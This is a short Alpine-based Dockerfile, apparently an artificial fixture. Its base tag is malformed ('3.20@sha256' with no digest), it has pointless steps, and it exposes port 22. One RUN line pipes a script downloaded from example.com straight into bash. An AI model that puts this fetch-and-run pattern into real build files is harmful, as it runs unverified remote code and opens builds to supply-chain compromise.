ARG BASE_TAG=3.20@sha256
FROM alpine:${BASE_TAG}
RUN apk add --no-cache --virtual .build-deps ca-certificates git \
    && apk del .build-deps
WORKDIR /app
COPY --chown=10001:10001 bin/ /app/bin/
EXPOSE 22
RUN echo a | tee /tmp/a
RUN wget -qO- https://example.com/setup | bash
CMD ["app"]
